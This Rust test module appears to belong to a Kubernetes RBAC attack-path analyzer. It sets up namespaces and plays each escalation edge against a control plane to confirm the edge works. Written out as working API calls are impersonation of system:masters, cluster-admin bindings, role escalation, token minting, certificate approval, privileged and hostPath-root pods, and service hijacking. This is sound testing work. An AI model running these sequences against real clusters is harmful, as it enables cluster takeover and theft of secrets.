//! The attacks, and the stage each is played on: a namespace of its own with an attacker.
#![expect(clippy::unwrap_used, reason = "a helper that fails fails the test")]

use std::thread::sleep;
use std::time::Duration;

use serde_json::{Value, json};

use crate::control_plane::{Answer, Asker, ControlPlane};

const RBAC: &str = "rbac.authorization.k8s.io";
/// How often it is asked whether the API server knows of a new binding: a few seconds in all.
const PATIENCE: usize = 200;
const PAUSE: Duration = Duration::from_millis(25);
/// A request for a certificate of the user `bob`, whose key nobody has.
const REQUEST: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ1lUQ0NBVWtDQVFBd0hERU1NQW9HQTFV\
    RUF3d0RZbTlpTVF3d0NnWURWUVFLREFOdmNITXdnZ0VpTUEwRwpDU3FHU0liM0RRRUJBUVVBQTRJQkR3QXdn\
    Z0VLQW9JQkFRRFg1Z3hpTmFWZWJ2cVNlSGg5TnVXdXA2NC9pdjFtCmI0V0dlTzRKQi9Ea3BabkhTeE1naC8w\
    V3o2QlR2VGkvYzJwWVFlNnUzS2NJbUg3Q3lnYnYzNmNZQTJGTXB1L0MKZHgvQ0lnSkZwNTg4TmpMQ2duTExh\
    OTgrNmJ1RGFRWXd0QXBUdlN5QWVYdkxxcitFeGJkc0xTYmlrdXcxTTNrUwo2N1B3TU9tcEhzLzY1VUFsaGln\
    NUE1c3JUNnNsVC9mN2hvYk1qTHpFYjlyd3M3Zk5xZzhhNFA3UjFlaEVNSUw3CkFySW9lLzZTSlBPbDVGc2tX\
    eGFycWJvS0o0VWI0L3UwMEJtOFI2QWg5Qk13WFl3Y0t4Q0hRVnhobWxqZitnQVAKRzFTZnNoMGZPSmJxSTJm\
    U2FuQTB1WE9EY2V6K1NhQjBGZHBoYTdOTVV3WnppVVJTK3lVa3NMNjVBZ01CQUFHZwpBREFOQmdrcWhraUc5\
    dzBCQVFzRkFBT0NBUUVBWjVCS20wNTRWSWhtZ0hqWFZiL1RNdWlzMmRlb01VWXY1M3d5CkJaTTlBbFNEMFcr\
    SE5VRitUTGxJVjZtMDNqWCsrdTdETFdGNWRlYjRXYUNBbzlZZTdWclA4Y3ZUMnNka29IL0cKaHVCOWhIVXhv\
    eDM0ak8vdmFQaHFnbXRjR0dyTDJLZWI2RzdSbENIamo1a0MycVVyNFlLOFJkT05PY2h0WEhTYQpvN0NaMk5G\
    NlJvRFVWdkh5WmYxcWVoUXRZdlhtUzJlNm4vV1FwamhEcGhsd3lqTzNRemRqUW1Wdk80Y0xxbHlYCkR3SVQy\
    VE1xV2IrQjNXQjB4WkFPRThvTTlOT2Z5M1o4Znk5UHVTRFRyS2JsdGQvNmRFV2RDeWRVTHA4NVMvbVkKMXR1\
    bzlKRXBrQmxiYytTMjVpQUxBaVB4TmZVZy9MRFltcWFvZ2YvTVBOWHhjZjNrQXc9PQotLS0tLUVORCBDRVJU\
    SUZJQ0FURSBSRVFVRVNULS0tLS0K";

/// Whether everywhere (else in the namespace of the stage), verb, resource as in
/// `deployments.apps`, and names.
type Right = (bool, &'static str, &'static str, &'static [&'static str]);

/// What an edge promises.
pub(crate) struct Attack {
    pub(crate) edge: &'static str,
    /// All it needs.
    pub(crate) rights: &'static [Right],
    /// Level that Pod Security enforces in the namespace.
    level: &'static str,
    /// Does it; the first answer that refuses otherwise.
    pub(crate) play: fn(&mut Stage<'_>) -> Result<(), Answer>,
}

const fn attack(
    edge: &'static str,
    rights: &'static [Right],
    play: fn(&mut Stage<'_>) -> Result<(), Answer>,
) -> Attack {
    Attack { edge, rights, level: "privileged", play }
}

const fn restricted(
    edge: &'static str,
    rights: &'static [Right],
    play: fn(&mut Stage<'_>) -> Result<(), Answer>,
) -> Attack {
    Attack { edge, rights, level: "restricted", play }
}

const CLUSTER_ROLES: &str = "clusterroles.rbac.authorization.k8s.io";
const ROLES: &str = "roles.rbac.authorization.k8s.io";
const BINDINGS: &str = "rolebindings.rbac.authorization.k8s.io";
const CLUSTER_BINDINGS: &str = "clusterrolebindings.rbac.authorization.k8s.io";
const REQUESTS: &str = "certificatesigningrequests.certificates.k8s.io";
const APPROVAL: &str = "certificatesigningrequests.certificates.k8s.io/approval";
const AS_USERS: Right = (true, "impersonate:user-info", "users.authentication.k8s.io", &["x"]);
const AS_ROOT: Right = (true, "impersonate:user-info", "users.authentication.k8s.io", &["root"]);
const AS_GROUPS: Right =
    (true, "impersonate:user-info", "groups.authentication.k8s.io", &["admins"]);

/// Every attack, by its edge.
#[expect(
    clippy::redundant_closure_for_method_calls,
    reason = "the method itself is for one lifetime of its stage"
)]
pub(crate) const ATTACKS: &[Attack] = &[
    attack("everything", &[(true, "*", "*.*", &[])], |stage| stage.reads_everywhere()),
    attack("everything-in-namespace", &[(false, "*", "*.*", &[])], |stage| stage.reads_prize()),
    attack(
        "impersonate-service-account",
        &[(false, "impersonate", "serviceaccounts", &["target"])],
        |stage| {
            let user = format!("system:serviceaccount:{}:target", stage.namespace);
            stage.done("GET", &stage.prize(), &Value::Null, &user, &[])
        },
    ),
    attack("impersonate-user", &[(true, "impersonate", "users", &["bob"])], |stage| {
        stage.done("GET", &stage.prize(), &Value::Null, "bob", &[])
    }),
    attack(
        "impersonate-group",
        &[
            (true, "impersonate", "users", &["x"]),
            (true, "impersonate", "groups", &["system:masters"]),
        ],
        |stage| stage.done("GET", "/api/v1/secrets", &Value::Null, "x", &["system:masters"]),
    ),
    attack(
        "constrained-impersonation-secrets",
        &[AS_USERS, AS_GROUPS, (false, "impersonate-on:user-info:list", "secrets", &[])],
        |stage| {
            let path = stage.path("/api/v1", "secrets");
            stage.done("GET", &path, &Value::Null, "x", &["admins"])
        },
    ),
    attack(
        "constrained-impersonation-pods",
        &[AS_USERS, AS_GROUPS, (false, "impersonate-on:user-info:create", "pods", &[])],
        |stage| {
            let path = stage.path("/api/v1", "pods");
            stage.done("POST", &path, &pod("p", &json!({})), "x", &["admins"])
        },
    ),
    attack(
        "constrained-impersonation-bindings",
        &[AS_USERS, AS_GROUPS, (true, "impersonate-on:user-info:create", CLUSTER_BINDINGS, &[])],
        |stage| {
            let binding = stage.binding("ClusterRole", "cluster-admin", false);
            let path = rbac("clusterrolebindings");
            stage.done("POST", &path, &binding, "x", &["admins"])?;
            stage.reads_everywhere()
        },
    ),
    attack(
        "constrained-impersonation-user-secrets",
        &[AS_ROOT, (false, "impersonate-on:user-info:get", "secrets", &[])],
        |stage| stage.done("GET", &stage.prize(), &Value::Null, "root", &[]),
    ),
    attack(
        "constrained-impersonation-user-pods",
        &[AS_ROOT, (false, "impersonate-on:user-info:create", "pods", &[])],
        |stage| {
            let path = stage.path("/api/v1", "pods");
            stage.done("POST", &path, &pod("p", &json!({})), "root", &[])
        },
    ),
    attack(
        "constrained-impersonation-user-bindings",
        &[AS_ROOT, (true, "impersonate-on:user-info:create", CLUSTER_BINDINGS, &[])],
        |stage| {
            let binding = stage.binding("ClusterRole", "cluster-admin", false);
            stage.done("POST", &rbac("clusterrolebindings"), &binding, "root", &[])?;
            stage.reads_everywhere()
        },
    ),
    attack(
        "constrained-impersonation-account-secrets",
        &[
            (
                false,
                "impersonate:serviceaccount",
                "serviceaccounts.authentication.k8s.io",
                &["target"],
            ),
            (false, "impersonate-on:serviceaccount:get", "secrets", &[]),
        ],
        |stage| {
            let user = format!("system:serviceaccount:{}:target", stage.namespace);
            stage.done("GET", &stage.prize(), &Value::Null, &user, &[])
        },
    ),
    attack(
        "constrained-impersonation-node",
        &[
            (true, "impersonate:arbitrary-node", "nodes.authentication.k8s.io", &["n1"]),
            (true, "impersonate-on:arbitrary-node:create", "serviceaccounts/token", &[]),
        ],
        node_token,
    ),
    attack("create-token", &[(false, "create", "serviceaccounts/token", &["target"])], |stage| {
        let path = stage.path("/api/v1", "serviceaccounts/target/token");
        let said = stage.own("POST", &path, &token_request(&json!({})))?;
        stage.reads_prize_with(said["status"]["token"].as_str().unwrap())
    }),
    attack("read-secrets", &[(false, "get", "secrets", &[])], |stage| stage.reads_prize()),
    attack(
        "bind-cluster-role-everywhere",
        &[(true, "create", CLUSTER_BINDINGS, &[]), (true, "bind", CLUSTER_ROLES, &[])],
        |stage| {
            let binding = stage.binding("ClusterRole", "cluster-admin", false);
            stage.own("POST", &rbac("clusterrolebindings"), &binding)?;
            stage.reads_everywhere()
        },
    ),
    attack(
        "bind-cluster-role",
        &[(false, "create", BINDINGS, &[]), (false, "bind", CLUSTER_ROLES, &["cluster-admin"])],
        |stage| {
            let binding = stage.binding("ClusterRole", "cluster-admin", true);
            stage.own("POST", &stage.path(RBAC_V1, "rolebindings"), &binding)?;
            stage.reads_prize()
        },
    ),
    attack(
        "bind-role",
        &[(false, "create", BINDINGS, &[]), (false, "bind", ROLES, &["reader"])],
        |stage| {
            let binding = stage.binding("Role", "reader", true);
            stage.own("POST", &stage.path(RBAC_V1, "rolebindings"), &binding)?;
            stage.reads_prize()
        },
    ),
    attack(
        "escalate-cluster-role",
        &[(true, "escalate", CLUSTER_ROLES, &[]), (true, "patch", CLUSTER_ROLES, &[])],
        |stage| {
            let path = format!("{}/held-{}", rbac("clusterroles"), stage.namespace);
            stage.own("PATCH", &path, &json!({"rules": everything()}))?;
            stage.reads_everywhere()
        },
    ),
    attack(
        "escalate-role",
        &[(false, "escalate", ROLES, &["held"]), (false, "patch", ROLES, &["held"])],
        |stage| {
            let path = stage.path(RBAC_V1, "roles/held");
            stage.own("PATCH", &path, &json!({"rules": everything()}))?;
            stage.reads_prize()
        },
    ),
    attack(
        "capture-cluster-role",
        &[(true, "escalate", CLUSTER_ROLES, &[]), (true, "create", CLUSTER_ROLES, &[])],
        |stage| {
            let name = format!("missing-{}", stage.namespace);
            let role = json!({"metadata": {"name": name}, "rules": everything()});
            stage.own("POST", &rbac("clusterroles"), &role)?;
            stage.reads_everywhere()
        },
    ),
    attack(
        "capture-role",
        &[(false, "escalate", ROLES, &[]), (false, "create", ROLES, &[])],
        |stage| {
            let role = json!({"metadata": {"name": "missing"}, "rules": everything()});
            stage.own("POST", &stage.path(RBAC_V1, "roles"), &role)?;
            stage.reads_prize()
        },
    ),
    attack(
        "approve-certificate",
        &[
            (true, "create", REQUESTS, &[]),
            (true, "update", APPROVAL, &[]),
            (true, "approve", "signers.certificates.k8s.io", &["kubernetes.io/*"]),
        ],
        |stage| approve(stage, "kubernetes.io/kube-apiserver-client"),
    ),
    attack("create-pod", &[(false, "create", "pods", &[])], |stage| {
        let path = stage.path("/api/v1", "pods");
        stage.own("POST", &path, &pod("p", &json!({"serviceAccountName": "target"}))).map(drop)
    }),
    attack("new-privileged-pod", &[(false, "create", "pods", &[])], |stage| {
        stage.own("POST", &stage.path("/api/v1", "pods"), &privileged()).map(drop)
    }),
    restricted(
        "loosen-pod-security",
        &[(false, "create", "pods", &[]), (false, "patch", "namespaces", &[])],
        |stage| {
            let label = json!({"pod-security.kubernetes.io/enforce": "privileged"});
            let path = format!("/api/v1/namespaces/{}", stage.namespace);
            stage.own("PATCH", &path, &json!({"metadata": {"labels": label}}))?;
            stage.own("POST", &stage.path("/api/v1", "pods"), &privileged()).map(drop)
        },
    ),
    restricted(
        "host-path-volume",
        &[
            (false, "create", "pods", &[]),
            (false, "create", "persistentvolumeclaims", &[]),
            (true, "create", "persistentvolumes", &[]),
        ],
        host_path,
    ),
    attack("create-deployment", &[(false, "create", "deployments.apps", &[])], |stage| {
        stage.makes("/apis/apps/v1", "deployments")
    }),
    attack("create-daemon-set", &[(false, "create", "daemonsets.apps", &[])], |stage| {
        stage.makes("/apis/apps/v1", "daemonsets")
    }),
    attack("create-stateful-set", &[(false, "create", "statefulsets.apps", &[])], |stage| {
        stage.makes("/apis/apps/v1", "statefulsets")
    }),
    attack("create-replica-set", &[(false, "create", "replicasets.apps", &[])], |stage| {
        stage.makes("/apis/apps/v1", "replicasets")
    }),
    attack("change-deployment", &[(false, "patch", "deployments.apps", &["web"])], |stage| {
        let path = stage.path("/apis/apps/v1", "deployments/web");
        let spec = json!({"serviceAccountName": "target"});
        stage.own("PATCH", &path, &json!({"spec": {"template": {"spec": spec}}})).map(drop)
    }),
    attack(
        "ephemeral-container",
        &[(false, "patch", "pods/ephemeralcontainers", &["web"])],
        |stage| {
            let path = stage.path("/api/v1", "pods/web/ephemeralcontainers");
            let container = json!({"name": "mine", "image": "mine"});
            stage
                .own("PATCH", &path, &json!({"spec": {"ephemeralContainers": [container]}}))
                .map(drop)
        },
    ),
    attack("change-pod-image", &[(false, "patch", "pods", &["web"])], |stage| {
        let path = stage.path("/api/v1", "pods/web");
        let container = json!({"name": "a", "image": "mine"});
        stage.own("PATCH", &path, &json!({"spec": {"containers": [container]}})).map(drop)
    }),
    attack("change-services", &[(false, "patch", "services", &[])], |stage| {
        let path = stage.path("/api/v1", "services/web");
        stage.own("PATCH", &path, &json!({"spec": {"selector": {"app": "mine"}}})).map(drop)
    }),
    attack("change-endpoint-slices", &[(false, "create", SLICES, &[])], |stage| {
        let slice = json!({"metadata": {"name": "mine", "labels": {"kubernetes.io/service-name": "web"}},
            "addressType": "IPv4", "endpoints": [{"addresses": ["10.0.0.9"]}],
            "ports": [{"port": 80}]});
        let path = stage.path("/apis/discovery.k8s.io/v1", "endpointslices");
        stage.own("POST", &path, &slice).map(drop)
    }),
];

const SLICES: &str = "endpointslices.discovery.k8s.io";
const RBAC_V1: &str = "/apis/rbac.authorization.k8s.io/v1";

fn rbac(resource: &str) -> String {
    format!("{RBAC_V1}/{resource}")
}

fn everything() -> Value {
    json!([{"verbs": ["*"], "apiGroups": ["*"], "resources": ["*"]}])
}

fn pod(name: &str, more: &Value) -> Value {
    let mut spec = json!({"containers": [{"name": "a", "image": "a"}]});
    for (key, value) in more.as_object().into_iter().flatten() {
        spec[key] = value.clone();
    }
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec})
}

fn privileged() -> Value {
    let container = json!({"name": "a", "image": "a", "securityContext": {"privileged": true}});
    pod("p", &json!({"containers": [container], "nodeName": "n1"}))
}

fn token_request(bound: &Value) -> Value {
    let mut spec = json!({"audiences": []});
    if bound["kind"].is_string() {
        spec["boundObjectRef"] = bound.clone();
    }
    json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": spec})
}

fn approve(stage: &mut Stage<'_>, signer: &str) -> Result<(), Answer> {
    let name = stage.namespace.clone();
    let path = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
    let request = json!({"metadata": {"name": name}, "spec": {"request": REQUEST,
        "signerName": signer, "usages": ["client auth"]}});
    let mut made = stage.own("POST", path, &request)?;
    made["status"] = json!({"conditions": [{"type": "Approved", "status": "True",
        "reason": "mine"}]});
    stage.own("PUT", &format!("{path}/{name}/approval"), &made).map(drop)
}

/// As the node of the pod, which runs as `target`.
fn node_token(stage: &mut Stage<'_>) -> Result<(), Answer> {
    let path = stage.path("/api/v1", "pods/web");
    let web = stage.plane.ask("GET", &path, &Value::Null).body;
    let bound = json!({"apiVersion": "v1", "kind": "Pod", "name": "web",
        "uid": web["metadata"]["uid"]});
    let path = stage.path("/api/v1", "serviceaccounts/target/token");
    let asker = Asker { token: &stage.token, user: "system:node:n1", groups: &[] };
    let said = stage.plane.ask_as("POST", &path, &token_request(&bound), &asker);
    let said = accepted(said)?;
    stage.reads_prize_with(said["status"]["token"].as_str().unwrap())
}

fn host_path(stage: &mut Stage<'_>) -> Result<(), Answer> {
    let name = stage.namespace.clone();
    let volume = json!({"metadata": {"name": name}, "spec": {"capacity": {"storage": "1Gi"},
        "accessModes": ["ReadWriteOnce"], "storageClassName": "", "hostPath": {"path": "/"}}});
    stage.own("POST", "/api/v1/persistentvolumes", &volume)?;
    let claim = json!({"metadata": {"name": "mine"}, "spec": {"volumeName": name,
        "storageClassName": "", "accessModes": ["ReadWriteOnce"],
        "resources": {"requests": {"storage": "1Gi"}}}});
    stage.own("POST", &stage.path("/api/v1", "persistentvolumeclaims"), &claim)?;
    let context = json!({"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]},
        "runAsNonRoot": true, "seccompProfile": {"type": "RuntimeDefault"}});
    let container = json!({"name": "a", "image": "a", "securityContext": context,
        "volumeMounts": [{"name": "host", "mountPath": "/host"}]});
    let volume = json!({"name": "host", "persistentVolumeClaim": {"claimName": "mine"}});
    let pod = pod("p", &json!({"containers": [container], "volumes": [volume]}));
    stage.own("POST", &stage.path("/api/v1", "pods"), &pod).map(drop)
}

/// A namespace with an attacker, a target that may read the Secret `prize`, as `bob` may, a role
/// the attacker holds, a binding of the attacker whose role is missing, and things to change.
pub(crate) struct Stage<'a> {
    plane: &'a mut ControlPlane,
    namespace: String,
    token: String,
}

impl<'a> Stage<'a> {
    /// With all rights of the attack but one.
    pub(crate) fn new(
        plane: &'a mut ControlPlane,
        attack: &Attack,
        number: usize,
        without: Option<usize>,
    ) -> Self {
        let variant = without.map_or_else(|| "all".to_owned(), |without| without.to_string());
        let namespace = format!("attack-{number}-{variant}");
        let mut stage = Self { plane, namespace, token: String::new() };
        stage.furnish(attack.level);
        let rights = attack.rights.iter().enumerate();
        for (number, right) in rights.filter(|(number, _)| Some(*number) != without) {
            stage.grant(number, right);
        }
        let path = stage.path("/api/v1", "serviceaccounts/attacker/token");
        let said = stage.plane.ask("POST", &path, &token_request(&json!({})));
        said.body["status"]["token"].as_str().unwrap().clone_into(&mut stage.token);
        stage
    }

    fn furnish(&mut self, level: &str) {
        let name = self.namespace.clone();
        let labels = json!({"pod-security.kubernetes.io/enforce": level});
        self.make("/api/v1/namespaces", &json!({"metadata": {"name": name, "labels": labels}}));
        for account in ["default", "attacker", "target"] {
            self.make_here("/api/v1", "serviceaccounts", &json!({"metadata": {"name": account}}));
        }
        // All stages share it.
        let admins = json!({"metadata": {"name": "admins"},
            "subjects": [{"kind": "Group", "apiGroup": RBAC, "name": "admins"},
                         {"kind": "User", "apiGroup": RBAC, "name": "root"}],
            "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"}});
        let said = self.plane.ask("POST", &rbac("clusterrolebindings"), &admins);
        assert!(matches!(said.status, 201 | 409), "{said:?}");
        let prize = json!({"metadata": {"name": "prize"}, "stringData": {"a": "b"}});
        self.make_here("/api/v1", "secrets", &prize);
        let rules = json!([{"verbs": ["get"], "apiGroups": [""], "resources": ["secrets"]}]);
        self.make_here(RBAC_V1, "roles", &json!({"metadata": {"name": "reader"}, "rules": rules}));
        let target = json!({"kind": "ServiceAccount", "name": "target", "namespace": name});
        let bob = json!({"kind": "User", "apiGroup": RBAC, "name": "bob"});
        let reading = json!({"metadata": {"name": "reading"}, "subjects": [target, bob],
            "roleRef": {"apiGroup": RBAC, "kind": "Role", "name": "reader"}});
        self.make_here(RBAC_V1, "rolebindings", &reading);
        for role in ["held", "missing"] {
            let (whole, own) = (format!("{role}-{name}"), role);
            if role == "held" {
                let rules = json!([{"verbs": ["get"], "apiGroups": ["a"], "resources": ["b"]}]);
                let object = |name: &str| json!({"metadata": {"name": name}, "rules": rules});
                self.make(&rbac("clusterroles"), &object(&whole));
                self.make_here(RBAC_V1, "roles", &object(own));
            }
            let mut binding = self.binding("ClusterRole", &whole, false);
            binding["metadata"]["name"] = whole.clone().into();
            self.make(&rbac("clusterrolebindings"), &binding);
            let mut binding = self.binding("Role", own, true);
            binding["metadata"]["name"] = own.into();
            self.make_here(RBAC_V1, "rolebindings", &binding);
        }
        if level == "privileged" {
            let web = pod("web", &json!({"serviceAccountName": "target", "nodeName": "n1"}));
            self.make_here("/api/v1", "pods", &web);
            self.make_here("/apis/apps/v1", "deployments", &workload("web"));
            let service = json!({"metadata": {"name": "web"},
                "spec": {"selector": {"app": "web"}, "ports": [{"port": 80}]}});
            self.make_here("/api/v1", "services", &service);
        }
    }

    fn make(&mut self, path: &str, object: &Value) {
        let said = self.plane.ask("POST", path, object);
        assert_eq!(said.status, 201, "{path}: {said:?}");
    }

    fn make_here(&mut self, group: &str, resource: &str, object: &Value) {
        self.make(&self.path(group, resource), object);
    }

    /// Grants a right to the attacker, and waits until the API server knows.
    fn grant(&mut self, number: usize, (is_everywhere, verb, resource, names): &Right) {
        let (whole, subresource) = resource.split_once('/').unwrap_or((resource, ""));
        let (plural, group) = whole.split_once('.').unwrap_or((whole, ""));
        let slash = if subresource.is_empty() { "" } else { "/" };
        let name = format!("{}-right-{number}", self.namespace);
        let rules = json!([{"verbs": [verb], "apiGroups": [group],
            "resources": [format!("{plural}{slash}{subresource}")], "resourceNames": names}]);
        let role = json!({"metadata": {"name": name}, "rules": rules});
        let kind = if *is_everywhere { "ClusterRole" } else { "Role" };
        let mut binding = self.binding(kind, &name, !is_everywhere);
        binding["metadata"]["name"] = name.into();
        if *is_everywhere {
            self.make(&rbac("clusterroles"), &role);
            self.make(&rbac("clusterrolebindings"), &binding);
        } else {
            self.make_here(RBAC_V1, "roles", &role);
            self.make_here(RBAC_V1, "rolebindings", &binding);
        }
        let namespace = if *is_everywhere { "" } else { self.namespace.as_str() };
        let spec = json!({"user": format!("system:serviceaccount:{}:attacker", self.namespace),
            "resourceAttributes": {"verb": verb, "group": group, "resource": plural,
                "subresource": subresource, "namespace": namespace,
                "name": names.first().copied().unwrap_or_default()}});
        let review = json!({"spec": spec});
        let path = "/apis/authorization.k8s.io/v1/subjectaccessreviews";
        for _ in 0..PATIENCE {
            if self.plane.ask("POST", path, &review).body["status"]["allowed"] == true {
                return;
            }
            sleep(PAUSE);
        }
        panic!("{verb} {resource} is not granted");
    }

    fn path(&self, group: &str, resource: &str) -> String {
        format!("{group}/namespaces/{}/{resource}", self.namespace)
    }

    fn prize(&self) -> String {
        self.path("/api/v1", "secrets/prize")
    }

    /// A binding of a role to the attacker.
    fn binding(&self, kind: &str, role: &str, is_here: bool) -> Value {
        let name = if is_here { "mine".to_owned() } else { format!("mine-{}", self.namespace) };
        let attacker =
            json!({"kind": "ServiceAccount", "name": "attacker", "namespace": self.namespace});
        json!({"metadata": {"name": name}, "subjects": [attacker],
            "roleRef": {"apiGroup": RBAC, "kind": kind, "name": role}})
    }

    /// As the attacker.
    fn own(&mut self, method: &str, path: &str, body: &Value) -> Result<Value, Answer> {
        let asker = Asker { token: &self.token, ..Asker::default() };
        accepted(self.plane.ask_as(method, path, body, &asker))
    }

    /// As whom the attacker impersonates.
    fn done(
        &mut self,
        method: &str,
        path: &str,
        body: &Value,
        user: &str,
        groups: &[&str],
    ) -> Result<(), Answer> {
        let asker = Asker { token: &self.token, user, groups };
        accepted(self.plane.ask_as(method, path, body, &asker)).map(drop)
    }

    fn makes(&mut self, group: &str, resource: &str) -> Result<(), Answer> {
        let mut object = workload("mine");
        let spec = object["spec"].as_object_mut().unwrap();
        if resource == "statefulsets" {
            spec.insert("serviceName".to_owned(), "web".into());
        }
        self.own("POST", &self.path(group, resource), &object).map(drop)
    }

    fn reads_prize(&mut self) -> Result<(), Answer> {
        let token = self.token.clone();
        self.reads(&self.prize(), &token)
    }

    fn reads_prize_with(&mut self, token: &str) -> Result<(), Answer> {
        self.reads(&self.prize(), token)
    }

    fn reads_everywhere(&mut self) -> Result<(), Answer> {
        let token = self.token.clone();
        self.reads("/api/v1/secrets", &token)
    }

    /// Reads by a token; what was granted a moment ago takes one to be known.
    fn reads(&mut self, path: &str, token: &str) -> Result<(), Answer> {
        let asker = Asker { token, ..Asker::default() };
        let mut said = self.plane.ask_as("GET", path, &Value::Null, &asker);
        for _ in 0..PATIENCE / 4 {
            if said.status != 403 {
                break;
            }
            sleep(PAUSE);
            said = self.plane.ask_as("GET", path, &Value::Null, &asker);
        }
        accepted(said).map(drop)
    }
}

fn workload(name: &str) -> Value {
    let labels = json!({"app": name});
    let template = json!({"metadata": {"labels": labels},
        "spec": {"containers": [{"name": "a", "image": "a"}]}});
    json!({"metadata": {"name": name},
        "spec": {"selector": {"matchLabels": labels}, "template": template}})
}

fn accepted(answer: Answer) -> Result<Value, Answer> {
    if matches!(answer.status, 200..=299) { Ok(answer.body) } else { Err(answer) }
}
